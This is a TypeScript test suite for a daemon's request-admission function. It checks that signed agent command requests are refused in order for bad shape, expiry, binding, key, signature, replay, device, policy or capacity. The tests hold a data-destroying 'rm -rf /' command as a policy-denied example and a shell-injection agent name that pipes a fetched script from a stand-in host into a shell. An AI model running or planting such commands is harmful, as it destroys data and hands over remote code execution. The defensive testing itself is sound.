/** Each check through the one function, with everything else in order. */
import { sign } from "node:crypto";
import { loadPolicy } from "@mx-agent/policy";
import { EventTypes, signedBytes } from "@mx-agent/protocol";
import { describe, expect, test } from "vitest";
import { AFTER_RESTART, AGAIN, admit, WHILE_RUNNING } from "../../src/admit/admit.ts";
import type { World } from "../../src/admit/world.ts";
import type { IncomingEvent } from "../../src/matrix/api.ts";
import {
  aliceKey,
  approval,
  BUILDER,
  builderKey,
  type Content,
  eventOf,
  machine,
  NOW,
  request,
  signed,
  strangerKey,
  worldOf,
} from "./support.ts";

interface Case {
  what: string;
  check: string;
  reason: string | null;
  content?: () => unknown;
  event?: Partial<IncomingEvent>;
  world?: Partial<World>;
}

const at = (ms: number) => new Date(NOW + ms).toISOString();
const without = (content: Content, name: string) =>
  Object.fromEntries(Object.entries(content).filter(([key]) => key !== name));

const cases: Case[] = [
  { what: "no content", check: "shape", reason: "malformed_request", content: () => null },
  {
    what: "no command",
    check: "shape",
    reason: "malformed_request",
    content: () => signed(request({ command: [] })),
  },
  {
    what: "a life of more than 10 minutes",
    check: "shape",
    reason: "malformed_request",
    content: () => signed(request({ expires_at: at(600_001) })),
  },
  {
    what: "an expiry before its making",
    check: "shape",
    reason: "malformed_request",
    content: () => signed(request({ expires_at: at(-1) })),
  },
  {
    what: "another agent's name",
    check: "address",
    reason: null,
    content: () => signed(request({ target_agent: "other" })),
  },
  {
    what: "the key of another daemon with an agent of that name",
    check: "address",
    reason: null,
    content: () => signed(request({ target_key_id: strangerKey.key_id })),
  },
  {
    what: "an agent of another room",
    check: "address",
    reason: null,
    event: { room_id: "!other:example.org" },
  },
  {
    what: "an expiry that is now",
    check: "freshness",
    reason: "expired",
    content: () => signed(request({ created_at: at(-1000), expires_at: at(0) })),
  },
  {
    what: "a making more than 2 minutes from now",
    check: "freshness",
    reason: "from_the_future",
    content: () => signed(request({ created_at: at(120_001), expires_at: at(130_000) })),
  },
  {
    what: "another room's binding",
    check: "binding",
    reason: "binding_mismatch",
    content: () => signed(request(), { room_id: "!other:example.org" }),
  },
  {
    what: "another type's binding",
    check: "binding",
    reason: "binding_mismatch",
    content: () => signed(request(), { type: EventTypes.callRequest }),
  },
  {
    what: "another sender",
    check: "binding",
    reason: "binding_mismatch",
    event: { sender: "@mallory:example.org" },
  },
  {
    what: "another device, where the transport knows it",
    check: "binding",
    reason: "binding_mismatch",
    event: { transport: { encrypted: true, device_id: "OTHER", authentic: true, verified: true } },
  },
  {
    what: "no signature",
    check: "key",
    reason: "unsigned",
    content: () => without(signed(request()), "signature"),
  },
  {
    what: "a sender who is not joined",
    check: "key",
    reason: "untrusted_key",
    world: { isJoined: () => false },
  },
  {
    what: "a key that nobody approved",
    check: "key",
    reason: "untrusted_key",
    content: () => signed(request(), { key: strangerKey }),
  },
  {
    what: "a key that is another agent's",
    check: "key",
    reason: "untrusted_key",
    content: () => signed(request({ requesting_agent: "bob" })),
  },
  {
    what: "a key that is another user's",
    check: "key",
    reason: "untrusted_key",
    world: { trusted: () => approval({ user_id: "@bob:example.org" }) },
  },
  {
    what: "a revoked key",
    check: "key",
    reason: "revoked_key",
    world: { trusted: () => approval({ status: "revoked", revoked_at: at(-1) }) },
  },
  {
    what: "an approval that has expired",
    check: "key",
    reason: "untrusted_key",
    world: { trusted: () => approval({ status: "expired", expires_at: at(-1) }) },
  },
  {
    what: "no binding",
    check: "key",
    reason: "binding_missing",
    content: () => without(signed(request()), "binding"),
  },
  {
    what: "no binding under the daemon's own key",
    check: "key",
    reason: "binding_missing",
    content: () => without(signed(request(), { key: builderKey, sender: BUILDER }), "binding"),
    event: { sender: BUILDER },
  },
  {
    what: "a change after it was signed",
    check: "signature",
    reason: "invalid_signature",
    content: () => ({ ...signed(request()), cwd: "/" }),
  },
  {
    what: "no binding, though it was signed with one, under a legacy key",
    check: "signature",
    reason: "invalid_signature",
    content: () => without(signed(request()), "binding"),
    world: { trusted: () => approval({ legacy: true }) },
  },
  { what: "a nonce that was used", check: "replay", reason: "replayed", world: { claim: () => "replayed" } },
  {
    what: "a full table of nonces",
    check: "replay",
    reason: "over_capacity",
    world: { claim: () => "full" },
  },
  {
    what: "no encryption in an encrypted room",
    check: "device",
    reason: "unverified_device",
    world: { isEncrypted: () => true },
  },
  {
    what: "a device that may not be the sender's",
    check: "device",
    reason: "unverified_device",
    event: { transport: { encrypted: true, device_id: "DEVICE", authentic: false, verified: true } },
    world: { isEncrypted: () => true },
  },
  {
    what: "a command that the policy does not allow",
    check: "policy",
    reason: "policy_denied",
    content: () => signed(request({ command: ["rm", "-rf", "/"] })),
  },
  {
    what: "no policy",
    check: "policy",
    reason: "policy_denied",
    world: { policy: { state: "missing", file: "policy.toml" } },
  },
  {
    what: "as many runs as are allowed",
    check: "capacity",
    reason: "over_capacity",
    world: { running: () => 1_000 },
  },
];

describe("a request is admitted when everything is in order, and", () => {
  test("only then: every check says so in the trace", () => {
    const admission = admit(eventOf(signed(request())), worldOf());
    expect(admission.outcome).toBe("admitted");
    expect(admission.steps.map(({ check, outcome }) => `${check} ${outcome}`)).toEqual(
      [
        "shape",
        "address",
        "freshness",
        "binding",
        "key",
        "signature",
        "replay",
        "device",
        "policy",
        "capacity",
      ].map((check) => `${check} pass`),
    );
  });

  test.each(cases)(
    "with $what it is refused by $check as $reason",
    ({ check, reason, content, event, world }) => {
      let claimed = 0;
      const claim = world?.claim ?? (() => "fresh" as const);
      const counting = worldOf({
        ...world,
        claim: (asked) => {
          claimed++;
          return claim(asked);
        },
      });
      const admission = admit(eventOf(content ? content() : signed(request()), event), counting);
      const last = admission.steps.at(-1);
      expect([last?.check, last?.outcome, last?.reason]).toEqual([check, "refuse", reason]);
      expect(admission.steps.slice(0, -1).every(({ outcome }) => outcome === "pass")).toBe(true);
      if (reason === null) expect(admission.outcome).toBe("silence");
      else expect(admission).toMatchObject({ outcome: "refused", reason });
      // Before the signature is verified nothing is remembered, and nobody counts as verified.
      const order = ["shape", "address", "freshness", "binding", "key", "signature"];
      if (order.includes(check)) expect(claimed).toBe(0);
      if (admission.outcome === "refused" && [...order, "replay"].includes(check))
        expect(admission.key).toBeNull();
    },
  );

  test("a refusal of freshness names the seconds", () => {
    const late = signed(request({ created_at: at(-60_000), expires_at: at(-42_000) }));
    expect(admit(eventOf(late), worldOf())).toMatchObject({ hint: expect.stringContaining("42 s") });
  });

  test("a key of the first protocol asks without a binding", () => {
    const content = request();
    const sig = sign(null, signedBytes(content), aliceKey.privateKey).toString("base64");
    const signature = { alg: "ed25519", key_id: aliceKey.key_id, sig };
    const asked = () => eventOf({ ...content, signature });
    expect(admit(asked(), worldOf({ trusted: () => approval({ legacy: true }) })).outcome).toBe("admitted");
    expect(admit(asked(), worldOf())).toMatchObject({ reason: "binding_missing" });
  });

  test("our own key needs no approval, and passes the policy like everybody", () => {
    const own = signed(request({ requesting_agent: "builder" }), { key: builderKey, sender: BUILDER });
    const admission = admit(eventOf(own, { sender: BUILDER }), worldOf({ trusted: () => undefined }));
    expect(admission).toMatchObject({ outcome: "refused", reason: "policy_denied" });
  });
});

describe("decided on again", () => {
  const late = () => eventOf(signed(request({ created_at: at(-60_000), expires_at: at(-1) })));

  test("what runs or is held may be older than its expiry, and burns no nonce", () => {
    const world = worldOf({
      claim: () => {
        throw new Error("claimed again");
      },
    });
    expect(admit(late(), world, AGAIN).outcome).toBe("admitted");
  });

  test("what a restart finds unstarted has to be fresh", () => {
    expect(admit(late(), worldOf(), AFTER_RESTART)).toMatchObject({ outcome: "refused", reason: "expired" });
  });

  test("a key that was revoked since is refused", () => {
    const world = worldOf({ trusted: () => approval({ status: "revoked", revoked_at: at(0) }) });
    expect(admit(late(), world, AGAIN)).toMatchObject({ outcome: "refused", reason: "revoked_key" });
  });

  test("of what runs for an agent that is no longer ours, key and policy are asked all the same", () => {
    const gone = { ownAgent: () => undefined };
    expect(admit(late(), worldOf(gone), WHILE_RUNNING).outcome).toBe("admitted");
    const revoked = { ...gone, trusted: () => approval({ status: "revoked", revoked_at: at(0) }) };
    expect(admit(late(), worldOf(revoked), WHILE_RUNNING)).toMatchObject({ reason: "revoked_key" });
    const expired = { ...gone, trusted: () => approval({ status: "expired", expires_at: at(0) }) };
    expect(admit(late(), worldOf(expired), WHILE_RUNNING)).toMatchObject({ reason: "untrusted_key" });
    const denied = { ...gone, policy: loadPolicy("version = 1\n", "policy.toml", machine) };
    expect(admit(late(), worldOf(denied), WHILE_RUNNING)).toMatchObject({ reason: "policy_denied" });
  });
});

test("who names this daemon's key is heard, though the room says that another one answers for the agent", () => {
  const left = worldOf({
    ownAgent: () => undefined,
    registeredAgent: (room_id, agent_id) => worldOf().ownAgent(room_id, agent_id),
  });
  const to = (changes: Content) => admit(eventOf(signed(request(changes))), left).outcome;
  expect(to({ target_key_id: builderKey.key_id })).toBe("admitted");
  expect(to({})).toBe("silence");
  expect(to({ target_key_id: strangerKey.key_id })).toBe("silence");
  expect(to({ target_key_id: builderKey.key_id, target_agent: "other" })).toBe("silence");
});

test("the advice in a refusal holds no name that a shell would take for more than a name", () => {
  const agent = "x'; curl evil|sh #";
  const admission = admit(eventOf(signed(request({ requesting_agent: agent }))), worldOf());
  expect(admission).toMatchObject({
    reason: "untrusted_key",
    hint: expect.stringMatching(/approve --room '!room:example.org' AGENT$/),
  });
  const plain = admit(eventOf(signed(request({ requesting_agent: "bob" }))), worldOf());
  expect(plain).toMatchObject({ hint: expect.stringMatching(/'bob'$/) });
});
